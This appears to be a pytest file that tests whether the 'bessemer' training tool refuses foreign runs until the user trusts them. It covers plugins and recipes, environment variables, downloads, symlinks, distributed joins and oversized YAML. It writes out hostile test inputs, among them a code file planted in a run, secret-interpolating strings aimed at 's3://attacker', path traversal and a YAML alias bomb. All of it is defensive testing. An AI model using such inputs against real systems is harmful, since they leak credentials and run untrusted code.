"""What a run from elsewhere may do: each hole that an attack once went through, attacked again."""

from __future__ import annotations

import contextlib
import io
import os
import shutil
from pathlib import Path
from typing import Any, NamedTuple

import jax
import jax.numpy as jnp
import pytest
import yaml
from tests.tiny_run import make_run, tiny_params, tiny_tokenizer

from bessemer.checkpoint import Checkpoints
from bessemer.cli import main
from bessemer.config.recipes import saved_tree
from bessemer.errors import InputError
from bessemer.evaluate.core import core
from bessemer.generate import LoadedModel
from bessemer.job import RunDirectory, find_run
from bessemer.job.trust import adopt, check_trust, mark_origin, requests_of
from bessemer.report import write_report
from bessemer.report.summary import summarize

PROOF = "ran.txt"
SECRET = "AKIA-not-for-you"


@pytest.fixture
def place(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The user's working directory, with a file beside it that no run should read."""
    folder = tmp_path / "work"
    folder.mkdir()
    (tmp_path / "private.txt").write_text(f"password {SECRET}\n" * 50)
    monkeypatch.chdir(folder)
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", SECRET)
    return folder


def sent(place: Path, tree: dict[str, Any], name: str = "foreign") -> RunDirectory:
    """A run as it comes out of somebody's archive: a configuration, and code and recipes beside it."""
    run = RunDirectory(place / "runs" / name).create()
    run.config.write_text(yaml.safe_dump(tree))
    (run.path / "evil.py").write_text(f"open({str(place / PROOF)!r}, 'w').write('ran')\n")
    (run.path / "evil.yaml").write_text(
        yaml.safe_dump({"extends": "quickstart", "plugins": [str(run.path / "evil.py")]})
    )
    (run.path / "innocent.yaml").write_text("extends: evil.yaml\n")
    (run.path / "tasks.yaml").write_text("task: x\nprocess_results: !function evil.run\n")
    return run


class Called(NamedTuple):
    exit_code: int
    output: str


def called(*words: str) -> Called:
    """A command in this process, as from a shell: its exit code, and all it prints."""
    output = io.StringIO()
    with contextlib.redirect_stdout(output), contextlib.redirect_stderr(output):
        try:
            main(list(words))
        except SystemExit as end:
            return Called(int(end.code or 0), output.getvalue())
    raise AssertionError("a command always exits")


def refused(place: Path, run: RunDirectory, *names: str) -> None:
    """`bessemer resume` ends with 2 and names what it would not do; nothing of the run was executed."""
    result = called("resume", str(run.path))
    assert result.exit_code == 2, result.output
    assert "--trust" in result.output
    for name in names:
        assert name in result.output, result.output
    assert not (place / PROOF).exists()


RECIPE = "recipe:runs/foreign/evil.yaml"
TOY = {"recipe": "quickstart"}
NAMES_CODE: dict[str, dict[str, Any]] = {
    "init of a job of phases": {"job": "phases", "init": RECIPE, "phases": {"a": TOY}},
    "init of a phase": {"job": "phases", "phases": {"a": {**TOY, "init": RECIPE}}},
    "teacher of a phase": {"job": "phases", "phases": {"a": {**TOY, "distill": {"teacher": RECIPE}}}},
    "teacher of a phase, one word": {"job": "phases", "phases": {"a": {**TOY, "distill.teacher": RECIPE}}},
    "recipe of a phase": {"job": "phases", "phases": {"a": {"recipe": "runs/foreign/evil.yaml"}}},
    "recipe that extends another": {"job": "phases", "phases": {"a": {"recipe": "runs/foreign/innocent.yaml"}}},
    "plugins of a phase": {"job": "phases", "phases": {"a": {**TOY, "plugins": ["runs/foreign/evil.py"]}}},
    "init of a run": {"job": "BaseTrainer", "init": RECIPE},
    "teacher of a run": {"job": "BaseTrainer", "objective": "distill", "distill": {"teacher": RECIPE}},
    "plugin": {"job": "BaseTrainer", "plugins": ["runs/foreign/evil.py"]},
    "reward": {"job": "BaseTrainer", "grpo": {"rewards": [{"name": "evil:run"}]}},
    "reward in a file": {"job": "BaseTrainer", "grpo": {"rewards": ["runs/foreign/evil.py:run"]}},
    "environment": {"job": "GRPOTrainer", "grpo": {"environment": {"name": "evil:run"}}},
    "environment in a file": {"job": "GRPOTrainer", "grpo": {"environment": "runs/foreign/evil.py:run"}},
    "target of an environment": {"grpo": {"environment": {"name": "gymnasium", "options": {"target": "evil:run"}}}},
    "callback": {"job": "BaseTrainer", "callbacks": ["evil:run"]},
    "a module with a strange name": {"job": "BaseTrainer", "callbacks": ["evil-one:run"]},
    "a setting nobody knows yet": {"job": "BaseTrainer", "tomorrow": {"tool": "evil:run"}},
    "a file of code anywhere": {"job": "BaseTrainer", "tomorrow": {"tool": ["runs/foreign/evil.py"]}},
    "tasks of lm-eval": {"job": "BaseTrainer", "eval": {"evaluations": ["harness:runs/foreign/tasks.yaml"]}},
    "tasks of lm-eval in a phase": {
        "job": "phases",
        "phases": {"a": {**TOY, "eval.evaluations": ["harness:piqa,runs/foreign/tasks.yaml"]}},
    },
}


@pytest.mark.parametrize("tree", NAMES_CODE.values(), ids=NAMES_CODE)
def test_code_is_not_run_by_any_name(place: Path, tree: dict[str, Any]) -> None:
    refused(place, sent(place, tree), "was not started here")


@pytest.mark.parametrize("tree", NAMES_CODE.values(), ids=NAMES_CODE)
def test_the_owner_of_the_same_run_needs_no_flag(place: Path, tree: dict[str, Any]) -> None:
    run = sent(place, tree)
    mark_origin(run, saved_tree(run.config))
    check_trust(run)
    shutil.move(run.path, place / "moved")
    check_trust(RunDirectory(place / "moved"))


def test_shipped_recipes_and_tasks_of_the_harness_are_nobodys_code(place: Path) -> None:
    tree = {
        "job": "phases",
        "init": "recipe:quickstart",
        "phases": {"a": {**TOY, "distill.teacher": "recipe:quickstart"}},
        "eval": {"evaluations": ["bpb", "harness:piqa,copa", "exact:digits"]},
        "data": {"tokenizer": "train:300"},
    }
    assert requests_of(tree) == []
    check_trust(sent(place, tree))


@pytest.mark.parametrize(
    "word",
    [
        "${oc.env:AWS_SECRET_ACCESS_KEY}",
        "s3://attacker/${oc.env:AWS_SECRET_ACCESS_KEY}",
        "${oc.decode:${oc.env:AWS_SECRET_ACCESS_KEY}}",
        "${ oc.env:AWS_SECRET_ACCESS_KEY }",
        "${oc.env:${name}}",
        "\\\\${oc.env:AWS_SECRET_ACCESS_KEY}",
        "${oc.select:a,${oc.env:AWS_SECRET_ACCESS_KEY}}",
    ],
)
@pytest.mark.parametrize("trust", [False, True])
def test_the_environment_is_not_read_for_a_saved_configuration(place: Path, word: str, trust: bool) -> None:
    run = make_run(place, "foreign")
    run.config.write_text(run.config.read_text() + f"logging: {{mirror: '{word}'}}\n")
    copy = run.checkpoints / "step_00000020/config.yaml"
    words = ["resume", str(run.path), *(["--trust"] if trust else [])]
    for output in (called(*words), called("doctor", str(run.path)), called("report", str(run.path))):
        assert SECRET not in output.output
    assert called(*words).exit_code == 2
    write_report(run)
    texts = [path.read_text(errors="replace") for path in run.path.rglob("*") if path.is_file()]
    assert not any(SECRET in text for text in texts)
    assert SECRET not in str(summarize(run))
    with pytest.raises(InputError, match="may refer to its own settings only"):
        saved_tree(run.config)
    assert copy.is_file()


def test_settings_may_refer_to_each_other_and_a_written_dollar_stays_text(place: Path) -> None:
    run = sent(place, {"a": {"b": 3, "c": "${a.b}", "d": "\\${oc.env:AWS_SECRET_ACCESS_KEY}"}})
    assert saved_tree(run.config)["a"] == {"b": 3, "c": 3, "d": "${oc.env:AWS_SECRET_ACCESS_KEY}"}


@pytest.mark.parametrize(
    ("section", "word"),
    [
        ({"logging": {"mirror": "s3://attacker/runs"}}, "s3://attacker/runs"),
        ({"logging": {"wandb": True}}, "logging.wandb"),
        ({"training": {"dataset": "{private}"}}, "private.txt"),
        ({"training": {"dataset": [[{"name": "../private.txt"}]]}}, "private.txt"),
        ({"training": {"dataset": [[{"name": "{beside}/priv", "suffix": "ate.txt"}]]}}, "private.txt"),
        ({"data": {"tokenizer": "{private}"}}, "data.tokenizer"),
        ({"init": "{private}"}, "--base"),
        ({"distill": {"teacher": "{private}"}}, "--base"),
        ({"lora": {"adapters": "{private}"}}, "lora.adapters"),
        ({"eval": {"evaluations": ["gsm8k:{private}"]}}, "eval.evaluations"),
    ],
    ids=str,
)
def test_nothing_is_sent_or_opened_outside(place: Path, section: dict[str, Any], word: str) -> None:
    private = str(place.parent / "private.txt")
    text = yaml.safe_dump({"job": "BaseTrainer", **section}, width=1000).replace("{private}", private)
    text = text.replace("{beside}", str(place.parent))
    run = sent(place, yaml.safe_load(text))
    refused(place, run, word)
    adopt(run)
    check_trust(run)


@pytest.mark.parametrize(
    ("section", "word"),
    [
        ({"training": {"dataset": [[{"name": "hf:attacker/data"}]]}}, "hf:attacker/data"),
        ({"training": {"dataset": [[{"name": "hf:me/private:main@v1/test:PMD"}]]}}, "hf:me/private"),
        ({"training": {"dataset": "s3://mine/private.jsonl"}}, "s3://mine/private.jsonl"),
        ({"training": {"validation": "gs://mine/private.jsonl"}}, "gs://mine/private.jsonl"),
        ({"data": {"tokenizer": "hf:attacker/model"}}, "data.tokenizer"),
        ({"init": "hf:attacker/model"}, "--base"),
        ({"distill": {"teacher": "hf:attacker/model"}}, "distill.teacher"),
        ({"lora": {"adapters": "hf:attacker/model"}}, "lora.adapters"),
        ({"eval": {"evaluations": ["gsm8k:hf:attacker/data"]}}, "eval.evaluations"),
        ({"job": "phases", "phases": {"a": {**TOY, "training.dataset": "hf:attacker/data"}}}, "phases.a"),
    ],
    ids=str,
)
def test_nothing_is_downloaded_for_a_run_from_elsewhere(place: Path, section: dict[str, Any], word: str) -> None:
    """With this user's credentials it could read what is private; the owner and --trust need no flag."""
    run = sent(place, {"job": "BaseTrainer", **section})
    refused(place, run, word, "downloads")
    adopt(run)
    check_trust(run)


@pytest.mark.parametrize("root", ["{run}/cache", "{work}/cache", ".", "{beside}/not-there", "~/.cache/bessemer", "/"])
def test_a_run_from_elsewhere_does_not_choose_where_programs_are_loaded_from(place: Path, root: str) -> None:
    """JAX's cache of compiled programs is below data.root: machine code. And data would be written there."""
    root = root.format(run=place / "runs" / "foreign", work=place, beside=place.parent)
    run = make_run(place, "foreign", steps=(20,))
    text = run.config.read_text().replace(f"root: '{place / 'store'}'", f"root: '{root}'")
    run.config.write_text(text)
    run.origin.unlink(missing_ok=True)
    before = jax.config.jax_compilation_cache_dir
    refused(place, run, "data.root")
    result = called("doctor", str(run.path))
    assert "data.root" in result.output and "--trust" in result.output, result.output
    assert jax.config.jax_compilation_cache_dir == before and not (place.parent / "not-there").exists()
    check_trust(run, given=["data/root"])
    adopt(run)
    check_trust(run)
    phases = sent(place, {"job": "phases", "phases": {"a": {**TOY, "data.root": root}}}, "phases")
    refused(place, phases, "phases.a.data.root")


def test_a_data_root_marked_by_an_older_version_is_still_the_owners(place: Path) -> None:
    run = sent(place, {"data": {"root": str(place / "store")}})
    mark_origin(run, {"old": {"root": str(place / "store")}})  # as a file
    check_trust(run)


@pytest.mark.parametrize(
    ("saved", "named"),
    [
        ({"training": {"dataset": [[{"name": "{private}", "style": "PMD"}]]}}, "private.txt"),
        ({"training": {"dataset": [[{"name": "hf:me/private", "style": "PMD"}]]}}, "hf:me/private"),
        ({"training": {"dataset": [[{"name": "s3://mine/private.txt", "style": "PMD"}]]}}, "s3://mine/private.txt"),
        ({"data": {"root": "{outside}"}}, "data.root"),
    ],
    ids=["file", "hub", "bucket", "root"],
)
def test_an_evaluation_opens_no_data_that_a_run_from_elsewhere_names(
    place: Path, home: Path, saved: dict[str, Any], named: str
) -> None:
    """`eval` and `compare --common` read the held-out text of the run's data; it is read from the checkpoint's copy."""
    outside = place.parent / "outside"
    run = make_run(place, "foreign", steps=())
    text = yaml.safe_dump(saved).replace("{private}", str(place.parent / "private.txt"))
    tree = yaml.safe_load(run.config.read_text())
    tree["data"]["root"] = None
    for section, values in yaml.safe_load(text.replace("{outside}", str(outside))).items():
        tree[section] |= values
    run.config.write_text(yaml.safe_dump(tree))
    files = {"config.yaml": run.config.read_text(), "tokenizer.json": tiny_tokenizer().to_json()}
    checkpoints = Checkpoints(run.checkpoints)
    checkpoints.save(1, {"step": jnp.int32(1), "params": tiny_params()}, files=files, wait=True)
    checkpoints.close()
    run.origin.unlink(missing_ok=True)
    before = sorted(home.rglob("stores/*"))
    for words in (("eval", str(run.path), "--tasks", "bpb"), ("compare", str(run.path), str(run.path), "--common")):
        result = called(*words)
        assert result.exit_code == 2 and named in result.output and "--trust" in result.output, result.output
        assert not outside.exists() and sorted(home.rglob("stores/*")) == before


def test_a_bundle_of_core_that_a_run_from_elsewhere_names_is_not_opened(place: Path) -> None:
    tree = {"eval": {"core_bundle": str(place.parent)}}
    run = sent(place, tree)
    loaded = LoadedModel(None, None, None, 1, tree, run)
    with pytest.raises(InputError, match=r"eval\.core_bundle.*--trust"):
        core(loaded)
    adopt(run)
    with pytest.raises(InputError, match="core"):  # opened now, and it is no bundle
        core(loaded)


def test_data_given_now_is_not_downloaded_for_a_run_from_elsewhere(place: Path) -> None:
    run = sent(place, {"training": {"dataset": [[{"name": "hf:attacker/data"}]]}})
    check_trust(run, given=["training/dataset"])


def test_a_run_from_elsewhere_does_not_join_the_processes_of_its_sender(
    place: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Process 1 of a stranger's run would connect to his machine, and process 0 would listen for his."""
    joined: list[Any] = []
    monkeypatch.setattr("jax.distributed.initialize", lambda **arguments: joined.append(arguments))
    peers = {"coordinator": "198.51.100.7:1234", "processes": 2, "process_id": 1}
    refused(place, sent(place, {"job": "BaseTrainer", "topology": peers}), "topology.coordinator", "198.51.100.7")
    phases = {"job": "phases", "phases": {"a": {**TOY, "topology.coordinator": "0.0.0.0:1234"}}}
    refused(place, sent(place, phases, "phases"), "phases.a.topology.coordinator")
    assert joined == []
    check_trust(RunDirectory(place / "runs/foreign"), given=["topology/coordinator"])


def test_what_the_user_gives_now_is_the_users(place: Path) -> None:
    private = str(place.parent / "private.txt")
    tree = {"logging": {"mirror": "s3://mine/runs"}, "training": {"dataset": [[{"name": private}]]}}
    run = sent(place, tree)
    with pytest.raises(InputError, match="private"):
        check_trust(run, given=["logging/mirror"])
    check_trust(run, given=["logging/mirror", "training/dataset"])
    check_trust(run, given=["training/dataset"], mirror="s3://mine/runs")


def test_code_is_refused_even_where_the_user_gives_other_code(place: Path) -> None:
    """The run's own configuration is read before anything replaces it."""
    run = sent(place, {"job": "BaseTrainer", "plugins": ["runs/foreign/evil.py"]})
    result = called("resume", str(run.path), "plugins=[]")
    assert result.exit_code == 2 and "evil.py" in result.output and not (place / PROOF).exists()


def test_data_below_the_working_directory_may_be_read(place: Path) -> None:
    (place / "texts.txt").write_text("some text\n")
    tree = {"training": {"dataset": [[{"name": str(place / "texts.txt")}]]}, "init": "/gone/away"}
    check_trust(sent(place, tree))


def test_the_secret_of_this_user_is_not_data(place: Path, home: Path) -> None:
    mark_origin(sent(place, {"plugins": ["a.py"]}, "own"), {"plugins": ["a.py"]})
    assert (home / "secret").is_file()
    with pytest.raises(InputError, match="secret"):
        check_trust(sent(place, {"training": {"dataset": str(home / "secret")}}))


LINKED = ["notes.txt", "metrics.jsonl", "eval/x.json", "model/tokenizer.json", "checkpoints/step_00000010"]


@pytest.mark.parametrize("name", LINKED)
def test_links_out_of_a_run_are_not_followed(place: Path, name: str) -> None:
    run = make_run(place, "foreign", steps=(20,))
    link = run.path / name
    link.parent.mkdir(exist_ok=True)
    link.symlink_to(place.parent / "private.txt")
    for command in ("report", "doctor", "resume"):
        result = called(command, str(run.path))
        assert result.exit_code == 2 and "links to" in result.output, result.output
        assert SECRET not in result.output
    assert summarize(run).state == "refused"
    assert "was not read" in called("runs", str(run.path.parent)).output
    adopt(find_run(run.path, trust=True))
    assert find_run(run.path).path == run.path, "a link that the owner trusts once is the owner's"


def test_links_within_a_run_are_followed(place: Path) -> None:
    run = make_run(place, "mine", steps=(20,))
    (run.path / "best").symlink_to("checkpoints/step_00000020")
    assert find_run(run.path).path == run.path


def test_links_that_wandb_makes_in_its_own_folder_are_its_own(place: Path, tmp_path: Path) -> None:
    """wandb links its logs into the user's cache; nothing here opens that folder, so the run can still be resumed."""
    run, log = make_run(place), tmp_path / "core-debug.log"
    log.write_text("")
    logs = run.path / "wandb" / "offline-run-1" / "logs"
    logs.mkdir(parents=True)
    (logs / "debug-core.log").symlink_to(log)
    assert find_run(run.path).path == run.path
    (run.path / "logs").symlink_to(log)
    with pytest.raises(InputError, match="links to"):
        find_run(run.path)


def test_a_pipe_in_a_run_does_not_hang(place: Path) -> None:
    run = make_run(place, "foreign", steps=(20,))
    os.mkfifo(run.metrics)
    assert called("report", str(run.path)).exit_code == 2
    assert called("runs", str(run.path.parent)).exit_code == 0


BOMB = "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(
    f"{new}: &{new} [{','.join(['*' + old] * 9)}]\n" for old, new in zip("abcdefgh", "bcdefghi", strict=True)
)


@pytest.mark.parametrize(
    "text",
    [BOMB, "a: " + "[" * 5000 + "]" * 5000, "a:" * 3000, "x" * (65 << 20)],
    ids=["aliases", "nested", "a:a:", "long"],
)
def test_a_configuration_that_explodes_is_bad_input(place: Path, text: str) -> None:
    run = sent(place, {})
    run.config.write_text(text)
    result = called("resume", str(run.path))
    assert result.exit_code == 2 and str(run.config) in result.output, result.output
    (place / "recipe.yaml").write_text(text)
    result = called("config", "recipe.yaml")
    assert result.exit_code == 2 and "recipe.yaml" in result.output, result.output
